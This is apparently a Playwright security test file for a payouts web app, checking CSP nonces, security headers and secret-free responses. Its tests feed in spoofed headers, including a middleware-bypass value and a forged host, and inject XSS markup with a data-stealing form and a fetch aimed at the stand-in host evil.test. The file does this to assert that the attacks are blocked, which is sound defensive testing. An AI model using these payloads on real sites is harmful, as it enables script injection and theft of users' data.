import { expect, test } from './story.ts';
import { BASE_URL } from './surroundings.ts';

const PAGES = ['/', '/wallets', '/wallets/4410270001', '/payouts', '/payouts/new', '/receipts', '/webhooks', '/audit', '/settings'];
const MISSING = ['/nowhere', '/payouts/00000000-0000-4000-8000-000000000000', '/receipts/00000000-0000-4000-8000-000000000000', '/wallets/1'];
const EVERYWHERE = {
  'strict-transport-security': 'max-age=31536000; includeSubDomains',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy': 'camera=(), microphone=(), geolocation=(), payment=(), usb=()',
};
/** The policy with its one changing part taken out. */
const POLICY =
  "default-src 'none'; script-src 'nonce-…' 'strict-dynamic'; style-src 'self' 'nonce-…'; img-src 'self' data:; font-src 'self'; connect-src 'self'; form-action 'self'; frame-src 'self'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'; manifest-src 'self'";

test('every page, also one that is missing, has the whole policy with a nonce never seen before, on every script', async ({ sitDown }) => {
  const { context } = await sitDown('selin');
  const seen = new Set<string>();
  for (const path of [...PAGES, ...PAGES, ...MISSING]) {
    const answer = await context.request.get(path);
    expect(answer.status(), path).toBe(MISSING.includes(path) ? 404 : 200);
    expect(answer.headers(), path).toMatchObject(EVERYWHERE);
    expect(answer.headers()['cache-control'], path).toContain('no-store');
    expect(answer.headers()['x-powered-by'], path).toBeUndefined();
    const policy = answer.headers()['content-security-policy'] ?? '';
    expect(policy.replaceAll(/nonce-[A-Za-z0-9+/]{22}==/g, 'nonce-…'), path).toBe(POLICY);
    const nonce = /nonce-([^']+)/.exec(policy)![1]!;
    expect(seen.has(nonce), `${path} repeats a nonce`).toBe(false);
    seen.add(nonce);
    const scripts = [...(await answer.text()).matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
    expect(scripts.length, `scripts of ${path}`).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag, path).toContain(`nonce="${nonce}"`);
  }
});

test('the sign-in and its errors have the policy too; a nonce or policy sent by the browser is not taken over', async ({ openDesk }) => {
  const { context } = await openDesk();
  const mine = 'AAAAAAAAAAAAAAAAAAAAAA==';
  for (const path of ['/login', '/payouts', '/nowhere', '/_next/image?url=%2Ficon.svg&w=64&q=75', '/api/auth/csrf']) {
    const answer = await context.request.get(path, {
      headers: { 'x-nonce': mine, 'content-security-policy': `script-src 'nonce-${mine}'`, 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy', 'x-forwarded-host': 'evil.test' },
    });
    expect(answer.headers(), path).toMatchObject(EVERYWHERE);
    expect(answer.headers()['content-security-policy'], path).toContain("default-src 'none'");
    expect(answer.headers()['content-security-policy'], path).not.toContain(mine);
    const text = await answer.text();
    expect(text, path).not.toContain(mine);
    expect(text, path).not.toContain('evil.test');
  }
  expect((await context.request.get('/_next/image?url=%2Ficon.svg&w=64&q=75')).status(), 'no image optimiser').toBe(404);
});

test('machine addresses say nothing to a browser that should not ask', async ({ openDesk }) => {
  const { context } = await openDesk();
  for (const [method, path, status] of [
    ['GET', '/api/events', 401],
    ['GET', '/api/payouts/00000000-0000-4000-8000-000000000000', 401],
    ['GET', '/receipts/00000000-0000-4000-8000-000000000000/raw', 401],
    ['GET', '/api/health/live', 200],
    ['GET', '/api/health/ready', 200],
    ['POST', '/api/webhooks/wrong-key/wallet', 404],
  ] as const) {
    const answer = await context.request.fetch(path, { method });
    expect(answer.status(), path).toBe(status);
    expect(answer.headers()['x-content-type-options'], path).toBe('nosniff');
    expect(answer.headers()['content-security-policy'], path).toContain("default-src 'none'");
    expect(await answer.text(), path).not.toMatch(/secret|postgres:|Bearer/i);
  }
});

test('what a stranger managed to write into a page does not run and reaches nobody', async ({ sitDown, pageProblems }) => {
  const { page } = await sitDown('ayse');
  const asked: string[] = [];
  // What the policy stops never comes as far as this.
  await page.route('https://evil.test/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const injected =
    '<script>window.owned = "inline"</script><script src="https://evil.test/x.js"></script><img src="https://evil.test/p.png" onerror="window.owned = \'handler\'">' +
    '<base href="https://evil.test/"><iframe src="https://evil.test/f"></iframe><link rel="stylesheet" href="https://evil.test/s.css"><form id="steal" action="https://evil.test/s" method="post"></form>';
  await page.route('**/payouts', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: (await answer.text()).replace('<body>', `<body>${injected}`) });
  });
  await page.addInitScript(() => {
    const heard: string[] = [];
    Object.assign(window, { heard });
    addEventListener('securitypolicyviolation', (event) => heard.push(event.effectiveDirective));
  });
  await page.goto('/payouts');
  await page.evaluate(async () => {
    (document.getElementById('steal') as HTMLFormElement).submit();
    await fetch('https://evil.test/c').catch(() => undefined);
  });
  const heard = () => page.evaluate(() => [...new Set((window as unknown as { heard: string[] }).heard)].sort());
  await expect.poll(heard).toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']);
  expect(await page.evaluate(() => ({ owned: (window as unknown as { owned?: string }).owned ?? null, base: document.baseURI }))).toEqual({ owned: null, base: `${BASE_URL}/payouts` });
  expect(asked).toEqual([]);
  // The violations, and a page that was drawn differently from what its script expects, were the point of this story.
  pageProblems.length = 0;
});

test('what the browser gets names no secret of a provider and no session of ours', async ({ sitDown }) => {
  const { page, context } = await sitDown('selin');
  const bodies: Promise<string>[] = [];
  page.on('response', (response) => {
    if (response.url().startsWith(BASE_URL) && !response.url().includes('/api/events')) bodies.push(response.text().catch(() => ''));
  });
  for (const path of ['/', '/payouts', '/settings']) await page.goto(path);
  const cookie = (await context.cookies()).find(({ name }) => name === 'sid')!.value;
  const text = (await Promise.all(bodies)).join('\n');
  expect(text.length).toBeGreaterThan(100_000);
  for (const secret of [cookie, 'client_secret', 'app_secret', 'WALLET_CLIENT', 'CARD_APP', 'AUTH_SECRET', 'postgres://', 'postgresql://']) expect(text).not.toContain(secret);
});
